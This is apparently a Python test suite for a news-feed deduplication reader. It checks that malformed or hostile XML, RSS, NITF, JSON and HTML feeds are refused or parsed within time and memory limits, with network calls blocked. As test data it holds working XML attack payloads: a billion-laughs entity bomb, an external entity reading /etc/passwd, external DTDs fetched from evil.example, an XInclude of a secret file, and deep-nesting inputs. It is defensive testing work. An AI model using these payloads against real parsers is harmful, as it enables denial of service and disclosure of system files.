"""Feeds made to do harm, or made badly: read or refused, in bounded time, and nothing fetched."""

from __future__ import annotations

import json
import resource
import socket
import time
import xml.sax.saxutils
from typing import TYPE_CHECKING, NoReturn

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dedup import sources
from dedup.records import Article, Skipped
from dedup.sources.markup import fragment

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

pytest.importorskip("lxml")

STORY = "Ferry crews walked out on Thursday over pay."
DECLARED = "it has a DOCTYPE with declarations, which are refused in feeds"


@pytest.fixture(autouse=True)
def _no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*_: object, **__: object) -> NoReturn:
        message = "a feed was about to be followed"
        raise AssertionError(message)

    for name in ("socket", "create_connection", "getaddrinfo"):
        monkeypatch.setattr(socket, name, refuse)


@pytest.fixture
def within() -> Iterator[None]:
    """Hold a test to a minute of processor time and 1 GiB more of memory.

    What took a careless reader long took it five minutes; coverage makes all some times slower.
    """
    start, held = time.process_time(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    yield
    assert time.process_time() - start < 60
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - held < 1 << 20  # KiB


def read(path: Path, data: str | bytes) -> list[Article | Skipped]:
    path.write_bytes(data if isinstance(data, bytes) else data.encode())
    return list(sources.read([str(path)]))


def reason(path: Path, data: str | bytes) -> str:
    (item,) = read(path, data)
    assert isinstance(item, Skipped), item.text[:200]
    return item.reason


def nitf(body: str) -> str:
    return f"<nitf><body><body.content>{body}</body.content></body></nitf>"


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))


@pytest.mark.parametrize(
    "doctype",
    [
        f'<!DOCTYPE nitf [<!ENTITY l0 "ha">{LAUGHS}]>',
        f'<!DOCTYPE nitf [<!ENTITY l11 "{"ha" * 100_000}">]>',
        '<!DOCTYPE nitf [<!ENTITY l11 SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE nitf [<!ENTITY % p SYSTEM "http://evil.example/a.dtd">%p;]>',
        '<!doctype nitf SYSTEM "http://evil.example/a.dtd" []>',
        '<!DOCTYPE nitf SYSTEM "a.dtd"><!DOCTYPE nitf [<!ENTITY l11 "ha">]>',
        '<!-- > --><?pi > ?><!DOCTYPE nitf [<!ENTITY l11 "ha">]>',
        "<!DOCTYPE nitf [",
        "<!DOCTYPE",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.usefixtures("within")
def test_declarations_are_refused(doctype: str, encoding: str, tmp_path: Path) -> None:
    xml = f"<?xml version='1.0'?>\n{doctype}{nitf(f'<p>{STORY} &l11;</p>' * 100)}"
    assert reason(tmp_path / "a.xml", xml.encode(encoding)) == DECLARED


def test_a_reference_to_a_dtd_is_not_followed(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "a.dtd").write_text('<!ENTITY told "a secret">')
    for reference in (f'SYSTEM "{tmp_path / "a.dtd"}"', 'PUBLIC "-//x" "http://evil.example/a"'):
        (item,) = read(tmp_path / "in" / "a.xml", f"<!DOCTYPE nitf {reference}>{nitf(STORY)}")
        assert isinstance(item, Article)
        undeclared = f"<!DOCTYPE nitf {reference}>{nitf(f'{STORY} &told;')}"
        assert "entity 'told' not defined" in reason(tmp_path / "in" / "a.xml", undeclared)


@pytest.mark.parametrize(
    "encoding", ["utf-7", "utf-16", "ucs-4", "no-such-thing", "zlib", "rot13", "x" * 5000]
)
def test_an_encoding_that_is_a_lie(encoding: str, tmp_path: Path) -> None:
    hidden = "<!DOCTYPE nitf [<!ENTITY l11 'ha'>]>"
    xml = f"<?xml version='1.0' encoding='{encoding}'?>{nitf(f'<p>{STORY} &l11;</p>')}"
    assert "not defined" in reason(tmp_path / "a.xml", xml)
    xml = f"<?xml version='1.0' encoding='{encoding}'?>{hidden}{nitf(f'<p>{STORY} &l11;</p>')}"
    assert reason(tmp_path / "a.xml", xml) == DECLARED


def test_nothing_outside_is_included(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("a secret")
    xml = nitf(
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{secret}" parse="text"/>'
        f'<?xml-stylesheet href="{secret}"?><p>{STORY}</p>'
        '<img src="http://evil.example/a.gif"/><a href="http://evil.example/">more</a>'
    )
    (item,) = read(tmp_path / "a.xml", xml)
    assert isinstance(item, Article)
    assert item.text == f"{STORY}\n\nmore"


DEEP = 100_000


@pytest.mark.parametrize(
    ("name", "data", "why"),
    [
        ("a.xml", nitf("<p>" * DEEP + STORY + "</p>" * DEEP), "well-formed XML: excessive depth"),
        ("a.xml", "<rss>" + "<a/>" * 3_100_000 + "</rss>", "3,000,000 tags and attributes"),
        ("a.xml", f"<nitf {'a=' * 3_100_000}></nitf>", "3,000,000 tags and attributes"),
        ("a.rss", f"<rss>{'<!-- ' * DEEP}</rss>", "no well-formed XML: "),
        ("a.rss", " " * 5_000_000 + "<rss", "no well-formed XML: "),
        ("a.rss", "<?" * 1_000_000, "no well-formed XML: "),
        ("a.rss", f"<rss>{'&x' * 1_000_000}</rss>", "no well-formed XML: "),
        ("a.rss", f"<rss><{'x' * 9_000_000}/></rss>", "no well-formed XML: "),
        ("a.xml", f"<newsItem guid='{'x' * 11_000_000}'/>", "over the limit"),
        ("a.json", '{"uri": "urn:x", "bodies": ' + "[" * DEEP, "nested too deeply"),
        ("a.json", '{"uri": "urn:x", "bodies": ' + '{"value":' * DEEP, "nested too deeply"),
    ],
    ids=lambda value: str(value)[:20],
)
@pytest.mark.usefixtures("within")
def test_what_is_too_deep_or_too_much(name: str, data: str, why: str, tmp_path: Path) -> None:
    assert why in reason(tmp_path / name, data)


@pytest.mark.usefixtures("within")
def test_many_namespaces_and_attributes(tmp_path: Path) -> None:
    spaces = " ".join(f'xmlns:n{n}="urn:{n}" n{n}:a="{n}"' for n in range(20_000))
    (item,) = read(tmp_path / "a.xml", nitf(f"<p {spaces}>{STORY}</p>"))
    assert isinstance(item, Article)
    assert item.text == STORY


@pytest.mark.usefixtures("within")
def test_markup_inside_an_item_is_bounded_too(tmp_path: Path) -> None:
    for markup in (
        "<div>" * DEEP + STORY,
        "<p>" * DEEP + STORY,
        "<a b='c' " * DEEP + f">{STORY}",
        f"{STORY}<!--" + "-" * 5_000_000,
        f"{STORY}{'&' * 1_000_000}",
        f"<table>{'<tr><td colspan=9000000000000000>x' * 1000}</table>{STORY}",
        f"<b>{'<i>' * 5000}</b>{STORY}" * 4,
        f"<a {' '.join(f'b{n}=c' for n in range(DEEP * 4))}>{STORY}",
        "<a " * DEEP * 10 + "b='>'",
        "<a b='\">" * DEEP,
        "<script>a<b" * DEEP + "<!--" * DEEP,
        f"<p>{STORY}" * 600_000,
    ):
        (item,) = read(tmp_path / "a.json", json.dumps({"uri": "urn:x:1", "body_html": markup}))
        assert isinstance(item, Article | Skipped)
        escaped = xml.sax.saxutils.escape(markup)
        (item,) = read(
            tmp_path / "a.rss", f"<rss><channel><item><description>{escaped}</description></item>"
            "</channel></rss>",
        )  # fmt: skip
        assert isinstance(item, Article | Skipped)


@pytest.mark.parametrize("between", [" ", "/", "='x\n", '=">"'])
@pytest.mark.usefixtures("within")
def test_a_page_with_a_tag_of_too_many_attributes(between: str, tmp_path: Path) -> None:
    names = between.join(f"b{n}" for n in range(DEEP * 4))
    page = f"<html><body><p>{STORY}</p><a {names}>{STORY}</a></body></html>"
    assert reason(tmp_path / "a.html", page) == "a tag of the page has too many attributes"


@pytest.mark.usefixtures("within")
def test_a_feed_of_very_many_entries(tmp_path: Path) -> None:
    entry = f"<item><title>t</title><description>{STORY}</description></item>"
    items = read(tmp_path / "a.rss", f"<rss><channel>{entry * 20_000}</channel></rss>")
    assert len(items) == 20_000
    assert all(isinstance(item, Article) for item in items)


TAGS = [
    *("rss", "channel", "item", "title", "description", "feed", "entry", "content", "source"),
    *("nitf", "body", "body.content", "p", "newsItem", "newsMessage", "itemSet", "itemMeta"),
    *("contentSet", "inlineXML", "inlineData", "contentMeta", "provider", "pubStatus", "html"),
    *("NewsML", "NewsItem", "NewsComponent", "ContentItem", "DataContent", "Role", "a:b", "link"),
]
words = st.text(st.characters(exclude_categories=["Cs"]), max_size=12)
attributes = st.sampled_from(
    [
        *("", ' guid="x"', ' qcode="stat:"', ' uri="http://[x"', ' type="xhtml"', " a=b"),
        *(' xmlns="urn:x"', ' xmlns:a="http://purl.org/dc/x"', ' FormalName="Main"', ' src="x"'),
    ]
)
trees = st.recursive(
    words.map(xml.sax.saxutils.escape),
    lambda inner: st.tuples(st.sampled_from(TAGS), attributes, st.lists(inner, max_size=4)).map(
        lambda made: f"<{made[0]}{made[1]}>{''.join(made[2])}</{made[0]}>"
    ),
    max_leaves=25,
)
broken = st.lists(
    trees
    | words
    | st.sampled_from(
        [
            *("<", ">", "</rss>", "<![CDATA[", "]]>", "<!--", "-->", "&nbsp;", "&#0;", "='"),
            *(
                "<?xml version='1.0'?>",
                "<!DOCTYPE nitf>",
                "\0",
                "\ufeff",
                "&amp",
                "<p",
                "&#x110000;",
            ),
        ]
    ),
    max_size=6,
).map("".join)


@given(
    st.sampled_from(["a.xml", "a.rss", "a.atom", "a.nitf", "a.newsml", "a"]),
    (trees | broken).map(str.encode) | st.binary(max_size=60),
    st.integers(0, 40),
)
@settings(max_examples=400, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_any_xml_is_read_or_skipped(tmp_path: Path, name: str, data: bytes, cut: int) -> None:
    for whole in (data, data[: len(data) - cut]):
        items = read(tmp_path / name, whole)
        assert items
        for item in items:
            if isinstance(item, Article):
                assert item.text.strip()
                f"{item.text}{item.title}{item.evidence}".encode()
            else:
                assert item.reason
                assert "\n" not in item.reason


@given(trees | broken | words)
@settings(max_examples=300)
def test_any_markup_gives_a_text(markup: str) -> None:
    text = fragment(markup)
    assert text == text.strip()
    assert "\n\n\n" not in text or "<" not in markup
    text.encode()
